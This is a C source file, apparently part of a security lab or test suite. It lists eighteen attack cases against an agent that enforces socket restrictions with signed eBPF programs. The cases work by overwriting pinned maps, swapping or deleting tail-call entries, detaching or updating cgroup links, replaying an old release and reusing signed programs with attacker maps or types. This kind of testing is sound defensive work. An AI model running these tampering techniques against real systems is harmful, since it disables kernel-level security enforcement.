// SPDX-License-Identifier: Apache-2.0
/*
 * Family control: nothing of the signed program changes, only what it is told: its maps, its tail,
 * where it is attached, and which release of it runs. The victim is the agent.
 */
#include "agent.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>

#define ENTRY 0

static const uint64_t permissive = 1;

/* The agent forbids sockets in the jail; the gain is that it does so no more. */
static struct outcome jail_is_open(const char *jail, const char *how)
{
	return may_connect(jail) ? gained(how) : futile(how);
}

static struct outcome update(int config, const char *how)
{
	if (config < 0)
		return failed(how);
	if (map_put(config, ENTRY, &permissive))
		return failed("MAP_UPDATE_ELEM");
	return jail_is_open(JAIL, how);
}

static struct outcome map_update_pin(void)
{
	_cleanup_fd_ int config = open_pin(PIN_CONFIG);

	return update(config, "OBJ_GET of the map's pin");
}

static struct outcome map_update_id(void)
{
	_cleanup_fd_ int config = open_id(BPF_MAP_GET_FD_BY_ID, find_map("lab_config"));

	return update(config, "MAP_GET_FD_BY_ID");
}

static struct outcome map_update_mmap(void)
{
	_cleanup_fd_ int config = open_pin(PIN_CONFIG);
	volatile uint64_t *values;

	if (config < 0)
		return failed("OBJ_GET of the map's pin");
	values = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, config, 0);
	if (values == MAP_FAILED)
		return failed("mmap");
	values[ENTRY] = permissive;
	return jail_is_open(JAIL, "a write to the mapped map");
}

static struct outcome prog_array_swap(void)
{
	_cleanup_fd_ int jump = open_pin(PIN_JUMP);
	_cleanup_fd_ int learn = open_pin(PIN_LEARN);

	if (jump < 0 || learn < 0)
		return failed("OBJ_GET of the array's pin");
	if (map_put(jump, ENTRY, &learn))
		return failed("MAP_UPDATE_ELEM of the prog_array");
	return jail_is_open(JAIL, "MAP_UPDATE_ELEM of the prog_array");
}

static struct outcome prog_array_cut(void)
{
	_cleanup_fd_ int jump = open_id(BPF_MAP_GET_FD_BY_ID, find_map("lab_jump"));
	unsigned int key = ENTRY;

	if (jump < 0)
		return failed("MAP_GET_FD_BY_ID");
	if (bpf(BPF_MAP_DELETE_ELEM, ATTR(.map_fd = jump, .key = address(&key))))
		return failed("MAP_DELETE_ELEM of the prog_array");
	return jail_is_open(JAIL, "MAP_DELETE_ELEM of the prog_array");
}

static struct outcome detach(void)
{
	_cleanup_fd_ int cgroup = open(OLD_JAIL, O_RDONLY | O_CLOEXEC);

	if (bpf(BPF_PROG_DETACH, ATTR(.target_fd = cgroup,
				      .attach_type = BPF_CGROUP_INET_SOCK_CREATE)))
		return failed("PROG_DETACH");
	return jail_is_open(OLD_JAIL, "PROG_DETACH");
}

/* Links have no names: of each the program is looked at. */
static int find_link(void)
{
	union bpf_attr attr = {};

	while (!bpf(BPF_LINK_GET_NEXT_ID, &attr)) {
		struct bpf_link_info info = {};
		int fd = open_id(BPF_LINK_GET_FD_BY_ID, attr.next_id);

		if (fd >= 0 &&
		    !bpf(BPF_OBJ_GET_INFO_BY_FD, ATTR(.info.bpf_fd = fd,
						      .info.info_len = sizeof(info),
						      .info.info = address(&info))) &&
		    info.type == BPF_LINK_TYPE_CGROUP)
			return fd;
		lab_close(&fd);
		attr.start_id = attr.next_id;
	}
	return -1;
}

static struct outcome link_detach(void)
{
	_cleanup_fd_ int link = find_link();

	if (link < 0)
		return failed("LINK_GET_FD_BY_ID");
	if (bpf(BPF_LINK_DETACH, ATTR(.link_detach.link_fd = link)))
		return failed("LINK_DETACH");
	return jail_is_open(JAIL, "LINK_DETACH");
}

static struct outcome link_update(void)
{
	_cleanup_fd_ int link = open_pin(PIN_LINK);
	_cleanup_fd_ int learn = open_pin(PIN_LEARN);

	if (link < 0 || learn < 0)
		return failed("OBJ_GET of the link's pin");
	if (bpf(BPF_LINK_UPDATE, ATTR(.link_update = { .link_fd = link, .new_prog_fd = learn })))
		return failed("LINK_UPDATE");
	return jail_is_open(JAIL, "LINK_UPDATE");
}

static struct outcome unpin(void)
{
	if (unlink(PIN_LINK))
		return failed("unlink of the link's pin");
	for (int i = 0; i < 20 && !may_connect(JAIL); i++)
		usleep(100000);
	return jail_is_open(JAIL, "unlink of the link's pin");
}

static struct outcome freeze(void)
{
	_cleanup_fd_ int config = open_pin(PIN_CONFIG);

	if (config < 0)
		return failed("OBJ_GET of the map's pin");
	if (bpf(BPF_MAP_FREEZE, ATTR(.map_fd = config)))
		return failed("MAP_FREEZE");
	return map_put(config, ENTRY, &permissive) ? gained("MAP_FREEZE") : futile("MAP_FREEZE");
}

static struct outcome bind_map(void)
{
	_cleanup_fd_ int map = make_map(BPF_MAP_TYPE_ARRAY, 4, 8, 1, 0);
	_cleanup_fd_ int block = open_pin(PIN_BLOCK);
	struct bpf_prog_info info = {};

	if (block < 0)
		return failed("OBJ_GET of the program's pin");
	if (bpf(BPF_PROG_BIND_MAP, ATTR(.prog_bind_map = { .prog_fd = block, .map_fd = map })))
		return failed("PROG_BIND_MAP");
	bpf(BPF_OBJ_GET_INFO_BY_FD, ATTR(.info.bpf_fd = block, .info.info_len = sizeof(info),
					 .info.info = address(&info)));
	return info.nr_map_ids > 2 ? gained("PROG_BIND_MAP") : futile("PROG_BIND_MAP");
}

static struct outcome pin_replace(void)
{
	_cleanup_fd_ int map = make_map(BPF_MAP_TYPE_ARRAY, 4, 8, 1, BPF_F_MMAPABLE);

	if (map < 0)
		return failed("MAP_CREATE");
	if (unlink(PIN_CONFIG))
		return failed("unlink of the map's pin");
	if (pin(map, PIN_CONFIG))
		return failed("OBJ_PIN in its place");
	return gained("OBJ_PIN in its place");
}

static struct outcome pin_rename(void)
{
	if (rename(PIN_CONFIG, AGENT_PINS "/moved"))
		return failed("rename of the map's pin");
	rename(AGENT_PINS "/moved", PIN_CONFIG);
	return gained("rename of the map's pin");
}

static struct outcome pin_link(void)
{
	static const char outside[] = "/sys/fs/bpf/lab-linked";
	struct stat stat_;

	if (link(PIN_CONFIG, outside) || stat(outside, &stat_))
		return failed("link of the map's pin");
	unlink(outside);
	return gained("link of the map's pin");
}

static struct outcome service_is_cut(int result, const char *how)
{
	if (result < 0)
		return failed(how);
	return may_connect(SERVICE) ? futile(how) : gained(how);
}

static struct outcome replay_old(void)
{
	return service_is_cut(forbid_sockets(PROGRAM_OLD, SERVICE), "PROG_LOAD of the old release");
}

static struct outcome other_target(void)
{
	return service_is_cut(forbid_sockets(PROGRAM_DENY, SERVICE), "PROG_ATTACH elsewhere");
}

/* The signed program with maps of the attacker's: neither is part of what was signed. */
static struct outcome other_map(void)
{
	_cleanup_fd_ int config = make_map(BPF_MAP_TYPE_ARRAY, 4, 8, 1, 0);
	_cleanup_fd_ int jump = make_map(BPF_MAP_TYPE_PROG_ARRAY, 4, 4, 1, 0);
	_cleanup_fd_ int service = open(SERVICE, O_RDONLY | O_CLOEXEC);
	_cleanup_fd_ int deny = load_signed(PROGRAM_DENY, BPF_PROG_TYPE_CGROUP_SOCK,
					    BPF_CGROUP_INET_SOCK_CREATE, NULL);
	_cleanup_fd_ int block = load_signed(PROGRAM_BLOCK, BPF_PROG_TYPE_CGROUP_SOCK,
					     BPF_CGROUP_INET_SOCK_CREATE, (int[]){ config, jump });

	if (deny < 0 || block < 0)
		return failed("PROG_LOAD");
	if (map_put(jump, ENTRY, &deny))
		return failed("MAP_UPDATE_ELEM");
	return service_is_cut(bpf(BPF_PROG_ATTACH,
				  ATTR(.target_fd = service, .attach_bpf_fd = block,
				       .attach_type = BPF_CGROUP_INET_SOCK_CREATE)),
			      "PROG_LOAD with other maps");
}

static int send_in(void *cgroup)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	char procs[256];
	int fd;

	snprintf(procs, sizeof(procs), "%s/cgroup.procs", (const char *)cgroup);
	if (write_file(procs, "0"))
		return 2;
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	return sendto(fd, "", 1, 0, (void *)&to, sizeof(to)) != 1;
}

/* The bytes of one type run as another: a rule for sockets drops packets. */
static struct outcome other_type(void)
{
	_cleanup_fd_ int service = open(SERVICE, O_RDONLY | O_CLOEXEC);
	_cleanup_fd_ int fd = load_signed(PROGRAM_DENY, BPF_PROG_TYPE_CGROUP_SKB,
					  BPF_CGROUP_INET_EGRESS, NULL);
	union bpf_attr attr = { .target_fd = service, .attach_bpf_fd = fd,
				.attach_type = BPF_CGROUP_INET_EGRESS };
	bool cut;

	if (fd < 0)
		return failed("PROG_LOAD as another type");
	if (bpf(BPF_PROG_ATTACH, &attr))
		return failed("PROG_ATTACH");
	cut = in_child(send_in, SERVICE) == 1;
	bpf(BPF_PROG_DETACH, &attr);
	return cut ? gained("PROG_LOAD as another type") : futile("PROG_LOAD as another type");
}

const struct attack control_attacks[] = {
	{ "map-update-pin", map_update_pin },
	{ "map-update-id", map_update_id },
	{ "map-update-mmap", map_update_mmap },
	{ "prog-array-swap", prog_array_swap },
	{ "prog-array-cut", prog_array_cut },
	{ "detach", detach },
	{ "link-detach", link_detach },
	{ "link-update", link_update },
	{ "unpin", unpin },
	{ "map-freeze", freeze },
	{ "bind-map", bind_map },
	{ "pin-replace", pin_replace },
	{ "pin-rename", pin_rename },
	{ "pin-link", pin_link },
	{ "replay-old", replay_old },
	{ "other-target", other_target },
	{ "other-map", other_map },
	{ "other-type", other_type },
	{},
};
